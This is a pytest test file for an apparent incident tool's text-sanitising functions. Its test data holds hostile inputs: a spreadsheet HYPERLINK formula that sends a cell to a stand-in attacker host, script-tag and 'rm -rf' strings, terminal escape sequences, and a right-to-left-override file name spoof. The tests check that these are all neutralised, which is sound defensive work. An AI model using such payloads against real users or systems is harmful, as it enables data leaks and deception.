"""Untrusted text: shown safely in the terminal and in Markdown, names in limits."""

from __future__ import annotations

import pytest

from warroom.core.errors import UsageError
from warroom.core.text import (
    MAX_NAME,
    MAX_TITLE,
    check_length,
    clean_name,
    clean_title,
    clip,
    csv_cell,
    one_line,
    visible,
)
from warroom.formats.export import md_inline

RAW_CONTROLS = {
    "\x1b": "\u241b",  # ESC -> ␛
    "\x00": "\u2400",  # NUL -> ␀
    "\x07": "\u2407",  # BEL -> ␇
    "\x9b": "\ufffd",  # C1 CSI -> replacement mark
    "\x7f": "\u2421",  # DEL -> ␡
}


def _has_raw_control(text: str) -> bool:
    return any(ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0 for ch in text)


@pytest.mark.parametrize(("raw", "shown"), list(RAW_CONTROLS.items()))
def test_visible_replaces_each_control_with_a_placeholder(raw, shown):
    assert visible(f"a{raw}b") == f"a{shown}b"
    assert visible(f"a{raw}b", multiline=True) == f"a{shown}b"


def test_visible_defuses_an_escape_sequence():
    hostile = "ok\x1b[2J\x1b]0;pwned\x07\x9b31m\x00\x7f done"
    shown = visible(hostile)
    assert not _has_raw_control(shown)
    assert shown == "ok\u241b[2J\u241b]0;pwned\u2407\ufffd31m\u2400\u2421 done"
    assert shown.endswith(" done")


def test_visible_covers_every_c0_and_c1_control():
    everything = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)])
    assert not _has_raw_control(visible(everything))
    assert len(visible(everything)) == len(everything)
    assert not _has_raw_control(
        visible(everything, multiline=True).replace("\n", "").replace("\t", "")
    )


def test_visible_single_line_shows_newlines_multiline_keeps_them():
    text = "line one\nline\ttwo\r\n"
    assert visible(text) == "line one\u240aline\u2409two\u240d\u240a"
    assert visible(text, multiline=True) == "line one\nline\ttwo\u240d\n"


def test_visible_leaves_ordinary_text_alone():
    text = "Ünïcode — 中文 emoji 🔥 and ASCII ~!@#"
    assert visible(text) == text
    assert visible(text, multiline=True) == text


def test_one_line():
    assert one_line("a\nb\r\nc\x1bd") == "a \u23ce b \u23ce c\u241bd"
    assert "\n" not in one_line("x\n" * 5)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a | b", "a \\| b"),
        ("use `rm -rf`", "use \\`rm -rf\\`"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("# Heading", "\\# Heading"),
        ("[link](http://x)", "\\[link\\](http://x)"),
        ("a & b", "a &amp; b"),
        ("plain words", "plain words"),
    ],
)
def test_markdown_inline_escapes(text, expected):
    assert md_inline(text, line_start=True) == expected


def test_markdown_inline_is_one_line_without_controls():
    out = md_inline("# one\n| two |\x1b[31m", line_start=True)
    assert "\n" not in out
    assert not _has_raw_control(out)
    assert not out.startswith("#")
    assert "|" not in out.replace("\\|", "")


@pytest.mark.parametrize("name", ["", "   ", "\t\n", "x" * (MAX_NAME + 1), "bo\x1bb", "a\x9bb"])
def test_clean_name_rejects(name):
    with pytest.raises(UsageError) as info:
        clean_name(name, "responder")
    assert "responder" in str(info.value)


def test_clean_name_accepts_and_strips():
    assert clean_name("  Ada Lovelace ") == "Ada Lovelace"
    assert clean_name("x" * MAX_NAME) == "x" * MAX_NAME
    assert clean_name("Zoë") == "Zoë"


def test_clean_title():
    assert clean_title("  Outage  ") == "Outage"
    assert clean_title("t" * MAX_TITLE) == "t" * MAX_TITLE
    for bad in ("", "  ", "t" * (MAX_TITLE + 1)):
        with pytest.raises(UsageError, match="title"):
            clean_title(bad)


def test_clip_and_check_length():
    assert clip("abcdef", 3) == ("abc", True)
    assert clip("abc", 3) == ("abc", False)
    assert check_length("abc", 3, "note") == "abc"
    with pytest.raises(UsageError, match="note is longer than 3"):
        check_length("abcd", 3, "note")


# --------------------------------------------- direction and invisible characters
@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\u202e", "\u2425"),  # right-to-left override -> ␥
        ("\u2066", "\u2425"),  # left-to-right isolate
        ("\u200f", "\u2425"),  # right-to-left mark
        ("\u200b", "\u2423"),  # zero-width space -> ␣
        ("\ufeff", "\u2423"),  # byte order mark
        ("\u2060", "\u2423"),  # word joiner
        ("\u2028", "\u2424"),  # line separator -> ␤
        ("\u2029", "\u2424"),  # paragraph separator
    ],
)
def test_direction_and_invisible_characters_are_shown(raw, shown):
    assert visible(f"a{raw}b") == f"a{shown}b"
    assert visible(f"a{raw}b", multiline=True) == f"a{shown}b"
    assert one_line(f"x{raw}y") == f"x{shown}y"


def test_a_reversed_file_name_reads_as_stored():
    spoof = "invoice\u202egnp.exe"  # shows as "invoiceexe.png" in a terminal
    assert visible(spoof) == "invoice\u2425gnp.exe"


def test_joiners_inside_emoji_and_words_are_kept_alone_they_are_shown():
    family = "\U0001f469\u200d\U0001f469\u200d\U0001f467"
    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    assert visible(family) == family
    assert visible(persian) == persian
    assert visible("a\u200db") == "a\u2423b"  # between ASCII letters it hides
    assert visible("\u200d") == "\u2423" and visible("x \u200c") == "x \u2423"


def test_visible_is_one_for_one():
    everything = "".join(chr(c) for c in range(0x3000)) + "\ufeff"
    assert len(visible(everything)) == len(everything)
    assert len(visible(everything, multiline=True)) == len(everything)


# ------------------------------------------------------------------- CSV cells
@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\u2409=1"),
        ("\r=1", "'\u240d=1"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("esc \x1b[2J in a title", "esc \u241b[2J in a title"),
        ("two\nlines", "two\nlines"),
    ],
)  # fmt: skip
def test_csv_cells_cannot_be_formulas_or_carry_controls(raw, cell):
    assert csv_cell(raw) == cell


# ---------------------------------------------------------------------- names
@pytest.mark.parametrize("name", ["eve\u2028x", "eve\x1b[2J", "bell\x07", "csi\x9b1m"])
def test_names_refuse_controls_and_separators(name):
    with pytest.raises(UsageError, match="control characters"):
        clean_name(name)


def test_names_may_turn_or_hide_text_which_is_then_shown():
    name = clean_name("eve\u202emal")
    assert name == "eve\u202emal" and one_line(name) == "eve\u2425mal"


def test_visible_replaces_exactly_what_its_table_names_fast_path_or_not():
    """visible() skips translate when nothing needs replacing: for text with
    and without each replaced character, it matches translate itself."""
    import random

    from warroom.core.text import _MULTILINE, _TABLE

    rng = random.Random(7)
    special = [chr(code) for code in _TABLE]
    plain = list("abc xyz 09 é ü 中文 👩 \n\t\\\"'") + [chr(0xA0), chr(0x2022)]
    for n in range(400):
        pool = plain + (special if n % 2 else [])
        text = "".join(rng.choice(pool) for _ in range(rng.randint(0, 40)))
        text = text.replace("\u200c", "").replace("\u200d", "")  # joiners: their own rule
        assert visible(text) == text.translate(_TABLE)
        assert visible(text, multiline=True) == text.translate(_MULTILINE)
